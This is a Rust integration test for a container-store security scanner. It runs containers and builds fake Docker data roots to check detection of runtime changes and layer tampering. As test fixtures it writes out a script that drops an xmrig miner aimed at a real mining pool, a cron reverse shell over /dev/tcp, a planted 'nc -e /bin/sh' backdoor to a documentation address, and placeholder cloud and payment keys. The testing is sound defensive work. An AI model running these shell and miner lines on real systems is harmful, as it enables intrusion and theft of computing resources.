@@ -1,0 +1,376 @@
+//! Engine stores read in place: a Docker data root written by a real dockerd (containers that
+//! drop a miner, add a cron reverse shell, delete a file, carry a key in their environment,
+//! mount the host's /etc), and data roots built in code to check what integrity checks say
+//! when a layer directory changes after the pull.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use common::build::layer_tar;
+use common::store::FakeDocker;
+use serde_json::{json, Value};
+
+// ---------------------------------------------------------------- a real dockerd
+
+/// A dockerd of our own: its data root, exec root and socket in a short temp dir (the socket
+/// path must fit in 108 bytes), stopped by its pid file.
+struct Dockerd {
+    dir: tempfile::TempDir,
+    child: std::process::Child,
+}
+
+impl Dockerd {
+    /// None, with the reason printed, when there is no dockerd to run (CI installs docker.io:
+    /// .ci/run).
+    fn start() -> Option<Dockerd> {
+        let found = |program: &str| Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok();
+        if !found("dockerd") || !found("docker") {
+            eprintln!(
+                "SKIPPED: no dockerd/docker on PATH (apt-get install docker.io; .ci/run does): the live-engine store test did not run"
+            );
+            return None;
+        }
+        let dir = tempfile::Builder::new().prefix("lhd").tempdir_in("/tmp").unwrap();
+        let d = dir.path();
+        let log = std::fs::File::create(d.join("dockerd.log")).unwrap();
+        let child = Command::new("dockerd")
+            .arg("--data-root")
+            .arg(d.join("docker"))
+            .arg("--exec-root")
+            .arg(d.join("dx"))
+            .arg("--pidfile")
+            .arg(d.join("dockerd.pid"))
+            .arg("--host")
+            .arg(format!("unix://{}", d.join("docker.sock").display()))
+            .args(["--iptables=false", "--ip-masq=false", "--bridge=none", "--storage-driver=overlay2"])
+            .stdin(Stdio::null())
+            .stdout(log.try_clone().unwrap())
+            .stderr(log)
+            .spawn()
+            .expect("dockerd starts");
+        let engine = Dockerd { dir, child };
+        let deadline = Instant::now() + Duration::from_secs(60);
+        while !engine.try_docker(&["version"]) {
+            assert!(Instant::now() < deadline, "dockerd did not answer within 60 s: {}", engine.log());
+            std::thread::sleep(Duration::from_millis(300));
+        }
+        Some(engine)
+    }
+
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.dir.path().join("dockerd.log")).unwrap_or_default()
+    }
+
+    fn client(&self, args: &[&str]) -> Command {
+        let mut command = Command::new("docker");
+        command.env("DOCKER_HOST", format!("unix://{}", self.dir.path().join("docker.sock").display())).args(args).stdin(Stdio::null());
+        command
+    }
+
+    fn try_docker(&self, args: &[&str]) -> bool {
+        self.client(args).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success())
+    }
+
+    fn docker(&self, args: &[&str]) -> String {
+        let out = self.client(args).output().unwrap();
+        assert!(out.status.success(), "docker {args:?}: {}\n{}", String::from_utf8_lossy(&out.stderr), self.log());
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    }
+
+    fn data_root(&self) -> PathBuf {
+        self.dir.path().join("docker")
+    }
+
+    /// Stops dockerd by its pid file and waits for it (and its containerd) to be gone.
+    fn stop(&mut self) {
+        if let Ok(pid) = std::fs::read_to_string(self.dir.path().join("dockerd.pid")) {
+            let _ = Command::new("kill").arg("-TERM").arg(pid.trim()).status();
+        }
+        let deadline = Instant::now() + Duration::from_secs(60);
+        while self.child.try_wait().ok().flatten().is_none() {
+            if Instant::now() > deadline {
+                let _ = self.child.kill();
+            }
+            std::thread::sleep(Duration::from_millis(200));
+        }
+    }
+}
+
+impl Drop for Dockerd {
+    fn drop(&mut self) {
+        if self.child.try_wait().ok().flatten().is_none() {
+            self.stop();
+        }
+    }
+}
+
+/// (path, size, mtime, ctime) of every node under `dir`: equal before and after a scan when
+/// nothing was written, chmod'ed or replaced.
+fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u64, i64, i64)> {
+    let mut nodes = BTreeMap::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(path) = stack.pop() {
+        let meta = std::fs::symlink_metadata(&path).unwrap();
+        nodes.insert(path.clone(), (meta.len(), meta.mtime(), meta.ctime()));
+        if meta.is_dir() {
+            stack.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
+        }
+    }
+    nodes
+}
+
+fn image_named<'r>(report: &'r Value, reference: &str) -> &'r Value {
+    report["inputs"][0]["images"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|image| image["refs"].as_array().unwrap().iter().any(|r| r == reference))
+        .unwrap_or_else(|| {
+            let all: Vec<&Value> = report["inputs"][0]["images"].as_array().unwrap().iter().map(|i| &i["refs"]).collect();
+            panic!("no image {reference} among {all:?}")
+        })
+}
+
+/// (detector, place, state, runtime) of every location of every finding of `image`, with the
+/// finding's severity.
+fn sightings(image: &Value) -> Vec<(String, String, String, String, String)> {
+    let mut found = Vec::new();
+    for finding in image["findings"].as_array().unwrap() {
+        let detector = format!("{}:{}", finding["detector"]["namespace"].as_str().unwrap(), finding["detector"]["rule"].as_str().unwrap());
+        for at in finding["locations"].as_array().unwrap() {
+            let place = at["path"].as_str().or(at["field"].as_str()).unwrap_or("?").to_string();
+            found.push((
+                detector.clone(),
+                place,
+                at["state"].as_str().unwrap_or("").to_string(),
+                at["runtime"].as_str().unwrap_or("").to_string(),
+                finding["severity"].as_str().unwrap().to_string(),
+            ));
+        }
+    }
+    found
+}
+
+const MINER_SCRIPT: &str = "mkdir -p /tmp/.x && \
+printf '#!/bin/sh\\ncd /tmp/.x && ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1 -B\\n' > /tmp/.x/run.sh && \
+chmod +x /tmp/.x/run.sh && mkdir -p /etc/cron.d && \
+echo '* * * * * root bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"' > /etc/cron.d/sync && \
+rm -f /etc/group && echo 'service started' > /tmp/app.log";
+
+#[test]
+fn a_store_written_by_dockerd_shows_each_containers_runtime_changes() {
+    let Some(mut engine) = Dockerd::start() else { return };
+    let sample = common::repo_path("samples/webapp.docker.tar");
+    engine.docker(&["load", "-i", sample.to_str().unwrap()]);
+    engine.docker(&[
+        "run",
+        "--network",
+        "none",
+        "--name",
+        "miner",
+        "-e",
+        "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN",
+        "-e",
+        "AWS_SECRET_ACCESS_KEY=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",
+        "--entrypoint",
+        "/bin/sh",
+        "webapp:1.0",
+        "-c",
+        MINER_SCRIPT,
+    ]);
+    engine.docker(&[
+        "run",
+        "--network",
+        "none",
+        "--name",
+        "etc-reader",
+        "-v",
+        "/etc:/host-etc:ro",
+        "--entrypoint",
+        "/bin/sh",
+        "webapp:1.0",
+        "-c",
+        "echo 'service started' > /tmp/app.log",
+    ]);
+    engine.stop();
+    let store = engine.data_root();
+    let before = snapshot(&store);
+    let scratch = tempfile::tempdir().unwrap();
+    let report = common::scan_with_builtin_packs(std::slice::from_ref(&store), scratch.path());
+    assert_eq!(snapshot(&store), before, "the scan wrote nothing into the store");
+    let input = &report["inputs"][0];
+    assert_eq!(input["format"], json!(["docker-store"]), "{:#}", input["errors"]);
+    assert!(input["errors"].as_array().unwrap().is_empty(), "{:#}", input["errors"]);
+    let anomaly_kinds: Vec<&str> = input["anomalies"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
+    assert!(!anomaly_kinds.iter().any(|k| k.starts_with("store-layer")), "every image layer is the pulled one: {:#}", input["anomalies"]);
+
+    let webapp = image_named(&report, "webapp:1.0");
+    assert_eq!(webapp["verified"], true, "the image's layers reassemble to their diff_ids: {:#}", webapp["anomalies"]);
+
+    let miner = image_named(&report, "container/miner");
+    let container = &miner["container"];
+    assert_eq!(container["name"], "miner");
+    assert_eq!(container["image_refs"], json!(["webapp:1.0"]));
+    let writable = container["writable_layer"].as_u64().unwrap();
+    assert_eq!(miner["layers"].as_array().unwrap().len() as u64, writable + 1);
+    assert_eq!(miner["layers"][writable as usize]["verified"], false, "a writable layer has no digest to verify");
+    let seen = sightings(miner);
+    let has = |detector: &str, place: &str, runtime: &str| {
+        seen.iter().any(|(d, p, state, r, _)| d == detector && p == place && state == "present" && r == runtime)
+    };
+    assert!(has("layerhound:reverse_shell_dev_tcp", "/etc/cron.d/sync", "added"), "{seen:#?}");
+    assert!(has("ioc:mining-pool", "/tmp/.x/run.sh", "added"), "{seen:#?}");
+    assert!(seen.iter().any(|(d, p, ..)| d == "secrets:aws-access-key-id" && p.starts_with("config.env[")), "{seen:#?}");
+    // The deleted file is a version the writable layer removed.
+    let group = miner["hidden_versions"].as_array().unwrap().iter().find(|v| v["path"] == "/etc/group").expect("/etc/group hidden");
+    assert_eq!((group["state"].as_str(), group["by_layer"].as_u64()), (Some("deleted"), Some(writable)));
+    // What the containers changed and is benign is not high.
+    for name in ["container/miner", "container/etc-reader"] {
+        for (detector, place, _, runtime, severity) in sightings(image_named(&report, name)) {
+            if place == "/tmp/app.log" {
+                panic!("{name}: the benign log file gave {detector} ({severity}, {runtime})");
+            }
+        }
+    }
+    let reader = sightings(image_named(&report, "container/etc-reader"));
+    assert!(
+        reader
+            .iter()
+            .any(|(d, p, _, _, severity)| d == "meta:container-host-path-mount" && p == "hostconfig.Binds[0]" && severity == "high"),
+        "{reader:#?}"
+    );
+    assert!(!seen.iter().any(|(d, ..)| d == "meta:container-host-path-mount"), "the miner mounted nothing");
+
+    // A byte of a lower layer changed on disk after the pull: the layer is no longer verified
+    // and the first path that differs is named.
+    let passwd = layer_file(&store, "etc/passwd");
+    let mut bytes = std::fs::read(&passwd).unwrap();
+    bytes[0] ^= 0x20;
+    let mtime = std::fs::metadata(&passwd).unwrap().modified().unwrap();
+    std::fs::write(&passwd, &bytes).unwrap();
+    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
+    let report = common::scan_with_builtin_packs(&[store], scratch.path());
+    let changed: Vec<&Value> =
+        report["inputs"][0]["anomalies"].as_array().unwrap().iter().filter(|a| a["kind"] == "store-layer-changed").collect();
+    assert_eq!(changed.len(), 1, "{:#}", report["inputs"][0]["anomalies"]);
+    assert!(changed[0]["message"].as_str().unwrap().contains("/etc/passwd"), "{:#}", changed[0]);
+    assert_eq!(image_named(&report, "webapp:1.0")["verified"], false);
+}
+
+/// The one image layer directory of the store that holds `relative`.
+fn layer_file(store: &Path, relative: &str) -> PathBuf {
+    let mut found: Vec<PathBuf> = std::fs::read_dir(store.join("overlay2"))
+        .unwrap()
+        .map(|e| e.unwrap().path().join("diff").join(relative))
+        .filter(|p| p.is_file() && !p.to_string_lossy().contains("-init"))
+        .collect();
+    found.sort();
+    assert!(!found.is_empty(), "no layer holds {relative}");
+    found.remove(0)
+}
+
+// ---------------------------------------------------------------- stores built in code
+
+fn base_layers() -> Vec<Vec<u8>> {
+    vec![
+        layer_tar(&[
+            ("bin/", b""),
+            ("bin/tool", b"#!/bin/sh\necho tool\n"),
+            ("etc/", b""),
+            ("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n"),
+        ]),
+        layer_tar(&[("app/", b""), ("app/server.sh", b"#!/bin/sh\nexec httpd\n")]),
+    ]
+}
+
+fn scan(root: &Path) -> Value {
+    let scratch = tempfile::tempdir().unwrap();
+    common::scan_with_builtin_packs(&[root.to_path_buf()], scratch.path())
+}
+
+fn anomalies<'r>(report: &'r Value, kind: &str) -> Vec<&'r str> {
+    report["inputs"][0]["anomalies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|a| a["kind"] == kind)
+        .map(|a| a["message"].as_str().unwrap())
+        .collect()
+}
+
+#[test]
+fn an_untouched_store_verifies_and_a_changed_layer_names_its_first_difference() {
+    let dir = tempfile::tempdir().unwrap();
+    let docker = FakeDocker::new(dir.path());
+    let image = docker.image("shop:1", &base_layers());
+    let report = scan(dir.path());
+    assert_eq!(image_named(&report, "shop:1")["verified"], true, "{:#}", report["inputs"][0]["anomalies"]);
+    assert!(anomalies(&report, "store-layer-changed").is_empty());
+
+    // A file planted in a lower layer after the pull.
+    let layer = docker.layer_dir(&image, 1);
+    std::fs::write(layer.join("app/backdoor.sh"), b"#!/bin/sh\nnc -e /bin/sh 198.51.100.23 4444\n").unwrap();
+    let report = scan(dir.path());
+    let changed = anomalies(&report, "store-layer-changed");
+    assert_eq!(changed.len(), 1, "{changed:?}");
+    assert!(changed[0].contains("/app/backdoor.sh") && changed[0].contains("added after the pull"), "{}", changed[0]);
+    assert_eq!(image_named(&report, "shop:1")["verified"], false);
+    // The planted file is read as the container would see it.
+    let files: Vec<String> = image_named(&report, "shop:1")["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|f| f["locations"].as_array().unwrap().iter().filter_map(|l| l["path"].as_str().map(String::from)))
+        .collect();
+    assert!(files.iter().any(|p| p == "/app/backdoor.sh"), "{files:?}");
+    std::fs::remove_file(layer.join("app/backdoor.sh")).unwrap();
+    // Taking it away changed the directory's time: the record says 0 (the tar's).
+    common::store::set_mtime(&layer.join("app"), 0);
+    assert!(anomalies(&scan(dir.path()), "store-layer-changed").is_empty(), "the layer is the pulled one again");
+
+    // The same size, other bytes: found by the record's CRC-64.
+    let passwd = docker.layer_dir(&image, 0).join("etc/passwd");
+    let mtime = std::fs::metadata(&passwd).unwrap().mtime() as u64;
+    std::fs::write(&passwd, b"root:x:0:0:root:/root:/bin/zz\n").unwrap();
+    common::store::set_mtime(&passwd, mtime);
+    let report = scan(dir.path());
+    let changed = anomalies(&report, "store-layer-changed");
+    assert_eq!(changed.len(), 1, "{changed:?}");
+    assert!(changed[0].contains("/etc/passwd") && changed[0].contains("CRC-64"), "{}", changed[0]);
+}
+
+#[test]
+fn a_containers_settings_and_log_are_checked_and_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let docker = FakeDocker::new(dir.path());
+    let image = docker.image("shop:1", &base_layers());
+    let changes = layer_tar(&[("tmp/", b""), ("tmp/notes.txt", b"all good\n")]);
+    let host = json!({
+        "Privileged": true, "PidMode": "host", "NetworkMode": "host", "CapAdd": ["SYS_ADMIN"],
+        "Binds": ["/var/run/docker.sock:/var/run/docker.sock", "/:/host", "/srv/data:/data:ro"],
+    });
+    let config = json!({"Env": ["PATH=/usr/bin:/bin", "STRIPE_KEY=sk_live_51Hc8UQJvEXAMPLEkeyNotRealX9zQ4tW7"], "Cmd": ["/bin/sh"], "Labels": {"team": "shop"}});
+    let container = docker.container("web", &image, &changes, config, host);
+    docker.log(&container, &["starting", "fetching http://pool.supportxmr.com/miner", "ready"]);
+    let report = scan(dir.path());
+    let web = image_named(&report, "container/web");
+    let seen = sightings(web);
+    let rule_at = |detector: &str, place: &str| seen.iter().find(|(d, p, ..)| d == detector && p == place).map(|s| s.4.clone());
+    assert_eq!(rule_at("meta:container-privileged", "hostconfig.Privileged").as_deref(), Some("high"), "{seen:#?}");
+    assert_eq!(rule_at("meta:container-host-namespace", "hostconfig.PidMode").as_deref(), Some("high"));
+    assert_eq!(rule_at("meta:container-host-namespace", "hostconfig.NetworkMode").as_deref(), Some("medium"));
+    assert_eq!(rule_at("meta:container-added-capability", "hostconfig.CapAdd[0]").as_deref(), Some("high"));
+    assert_eq!(rule_at("meta:container-engine-socket", "hostconfig.Binds[0]").as_deref(), Some("critical"));
+    assert_eq!(rule_at("meta:container-host-path-mount", "hostconfig.Binds[1]").as_deref(), Some("critical"));
+    assert_eq!(rule_at("meta:container-host-path-mount", "hostconfig.Binds[2]"), None, "an ordinary data directory is no finding");
+    assert!(seen.iter().any(|(d, p, ..)| d == "ioc:mining-pool" && p == "container.log"), "{seen:#?}");
+    assert!(seen.iter().any(|(d, p, ..)| d.starts_with("secrets:stripe") && p.starts_with("config.env[")), "{seen:#?}");
+    assert_eq!(web["container"]["log"]["file"], format!("containers/{}/{}-json.log", container.id, container.id));
+    // The image alone carries none of the container's findings.
+    assert!(!sightings(image_named(&report, "shop:1")).iter().any(|(d, ..)| d.starts_with("meta:container")));
+}
